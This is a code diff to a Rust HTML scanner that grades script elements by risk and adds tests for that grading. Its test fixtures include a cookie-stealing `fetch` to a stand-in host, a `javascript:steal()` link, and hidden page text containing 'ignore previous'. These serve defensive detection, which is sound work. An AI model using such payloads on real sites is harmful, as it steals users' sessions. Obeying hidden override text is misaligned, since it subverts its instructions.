@@ -101,6 +101,27 @@ enum Raw {
     Text,
 }
 
+/// A `<script>` element being read: whether it names a source file and
+/// whether its `type` is one a browser runs.
+#[derive(Debug, Clone, Copy)]
+struct OpenScript {
+    has_src: bool,
+    runs: bool,
+}
+
+/// Whether a `<script type>` is run by a browser (JavaScript or a module);
+/// other types (`application/json`, templates) are inert data blocks.
+fn runs_as_script(kind: &str) -> bool {
+    let kind = kind.trim().to_ascii_lowercase();
+    let kind = kind.split(';').next().unwrap_or("").trim();
+    kind.is_empty()
+        || kind == "module"
+        || kind.ends_with("javascript")
+        || kind.ends_with("ecmascript")
+        || kind.ends_with("jscript")
+        || kind.ends_with("livescript")
+}
+
 #[derive(Debug)]
 struct Open {
     name: String,
@@ -126,6 +147,7 @@ struct State {
     hidden_chars: u64,
     comments: u64,
     scripts: u64,
+    script: Option<OpenScript>,
     css: TextBuf,
 }
 
@@ -300,6 +322,51 @@ impl State {
         }
     }
 
+    /// Grades a `<script src>`: a script file from the document's own site
+    /// (a relative or root-relative path, as every Sphinx page has) is only
+    /// noted (low); one from another site is medium, since the page then
+    /// runs code its author does not control; `javascript:` and `data:`
+    /// sources are code written into the document, so high.
+    fn script_src(&mut self, src: &str) {
+        let example = format!("<script src=\"{}\">", cap_chars(src.trim(), 120));
+        match classify_url(src) {
+            UrlClass::Script | UrlClass::Data => self.tally.add(
+                WarningKind::Script,
+                Severity::High,
+                "inline script code",
+                &example,
+            ),
+            UrlClass::Remote => self.tally.add(
+                WarningKind::Script,
+                Severity::Medium,
+                "scripts loaded from another site",
+                &example,
+            ),
+            UrlClass::Local | UrlClass::Other => self.tally.add(
+                WarningKind::Script,
+                Severity::Low,
+                "script files from the document's own site",
+                &example,
+            ),
+        }
+    }
+
+    /// Called when a `<script>` element ends (or the input does): code
+    /// written inline in a script that a browser runs is high.
+    fn end_script(&mut self, code: &str) {
+        let Some(open) = self.script.take() else {
+            return;
+        };
+        if open.runs && !open.has_src && !code.trim().is_empty() {
+            self.tally.add(
+                WarningKind::Script,
+                Severity::High,
+                "inline script code",
+                &format!("<script>{}", cap_chars(code.trim(), 100)),
+            );
+        }
+    }
+
     fn start(&mut self, tag: Tag) {
         self.elements += 1;
         let name: &str = &tag.name;
@@ -348,14 +415,15 @@ impl State {
         match name.as_str() {
             "script" => {
                 self.scripts += 1;
-                self.tally.add(
-                    WarningKind::Script,
-                    Severity::High,
-                    "script elements",
-                    &get("src")
-                        .map(|s| format!("<script src=\"{}\">", cap_chars(&s, 120)))
-                        .unwrap_or_default(),
-                );
+                let src = get("src").filter(|s| !s.trim().is_empty());
+                let runs = get("type").is_none_or(|t| runs_as_script(&t));
+                self.script = Some(OpenScript {
+                    has_src: src.is_some(),
+                    runs,
+                });
+                if let (Some(src), true) = (src, runs) {
+                    self.script_src(&src);
+                }
             }
             "object" | "embed" | "applet" => self.tally.add(
                 WarningKind::EmbeddedFile,
@@ -537,7 +605,10 @@ impl TokenSink for Sink {
                 }
                 TagKind::EndTag => {
                     let name = tag.name.to_string().to_ascii_lowercase();
-                    if let Some((what, _)) = st.raw.take() {
+                    if let Some((what, code)) = st.raw.take() {
+                        if what == Raw::Script && name == "script" {
+                            st.end_script(&code);
+                        }
                         if what == Raw::Title && st.title.is_none() {
                             let t = st
                                 .title_buf
@@ -561,7 +632,6 @@ impl TokenSink for Sink {
                         }
                     }
                     st.end(tag);
-                    let _ = name;
                 }
             },
             Token::CharacterTokens(text) => st.text(&text),
@@ -606,6 +676,7 @@ pub fn extract_with(html: &str, link_source: &'static str) -> Extracted {
         hidden_chars: 0,
         comments: 0,
         scripts: 0,
+        script: None,
         css: TextBuf::with_cap(MAX_CSS),
     };
     let tokenizer = Tokenizer::new(
@@ -621,6 +692,11 @@ pub fn extract_with(html: &str, link_source: &'static str) -> Extracted {
     tokenizer.end();
     let Sink(cell) = tokenizer.sink;
     let mut st = cell.into_inner();
+    // An unclosed <script> still counts as code.
+    if let Some((Raw::Script, code)) = &st.raw {
+        let code = code.clone();
+        st.end_script(&code);
+    }
     // An unclosed <style> still gets scanned.
     if st.raw.as_ref().is_some_and(|(w, _)| *w == Raw::Style) {
         let css = st.css.as_str().to_string();
@@ -730,7 +806,9 @@ mod tests {
         let k = kinds(&ex);
         let has = |kind: K, needle: &str| k.iter().any(|(kk, m)| *kk == kind && m.contains(needle));
         assert!(has(K::Script, "inline event handlers"), "{k:?}");
-        assert!(has(K::Script, "script elements (2 found)"), "{k:?}");
+        assert!(has(K::Script, "inline script code"), "{k:?}");
+        assert!(has(K::Script, "scripts loaded from another site"), "{k:?}");
+        assert_eq!(ex.details["scripts"], 2);
         assert!(has(K::Script, "javascript:"), "{k:?}");
         assert!(
             has(
@@ -758,6 +836,81 @@ mod tests {
         let hidden = ex.hidden.into_string();
         assert!(hidden.contains("secret words") && hidden.contains("ignore previous"));
         assert!(hidden.contains("a comment"));
+    }
+
+    fn script_severities(html: &str) -> Vec<(Severity, String)> {
+        extract(html)
+            .warnings
+            .into_iter()
+            .filter(|w| w.kind == K::Script)
+            .map(|w| (w.severity, w.message))
+            .collect()
+    }
+
+    #[test]
+    fn local_scripts_are_not_high() {
+        // A Sphinx page: several scripts from its own _static folder.
+        let page = "<!DOCTYPE html><html><head><title>os — Python docs</title>\
+             <script id=\"documentation_options\" data-url_root=\"../\" \
+             src=\"../_static/documentation_options.js\"></script>\
+             <script src=\"../_static/jquery.js\"></script>\
+             <script src=\"../_static/underscore.js\"></script>\
+             <script src=\"/_static/doctools.js\"></script>\
+             <script type=\"application/json\" id=\"cfg\">{\"a\": 1}</script>\
+             </head><body><h1>os</h1><p>Miscellaneous interfaces.</p></body></html>";
+        let found = script_severities(page);
+        assert_eq!(
+            found,
+            [(
+                Severity::Low,
+                "script files from the document's own site (4 found)".to_string()
+            )]
+        );
+    }
+
+    #[test]
+    fn inline_code_handlers_and_javascript_urls_are_high() {
+        for page in [
+            "<p>x</p><script>fetch('https://x.test/?c='+document.cookie)</script>",
+            "<script type=\"text/javascript\">alert(1)</script>",
+            "<script type=module>import('x')</script>",
+            "<p>x</p><script>unclosed(",
+            "<body onload=\"init()\"><p>x</p></body>",
+            "<a href=\" javascript:steal()\">x</a>",
+            "<script src=\"javascript:alert(1)\"></script>",
+            "<script src=\"data:text/javascript,alert(1)\"></script>",
+        ] {
+            let found = script_severities(page);
+            assert!(
+                found.iter().any(|(s, _)| *s == Severity::High),
+                "{page}: {found:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn remote_scripts_are_medium() {
+        for src in [
+            "https://cdn.test/x.js",
+            "//cdn.test/x.js",
+            "http://cdn.test/y.js",
+        ] {
+            let found = script_severities(&format!("<script src=\"{src}\"></script>"));
+            assert_eq!(
+                found,
+                [(
+                    Severity::Medium,
+                    "scripts loaded from another site".to_string()
+                )],
+                "{src}"
+            );
+        }
+        // An empty inline script or an inert data block is not code.
+        assert!(
+            script_severities("<script> </script><script type=text/template><b></script>")
+                .iter()
+                .all(|(s, _)| *s < Severity::Medium)
+        );
     }
 
     #[test]
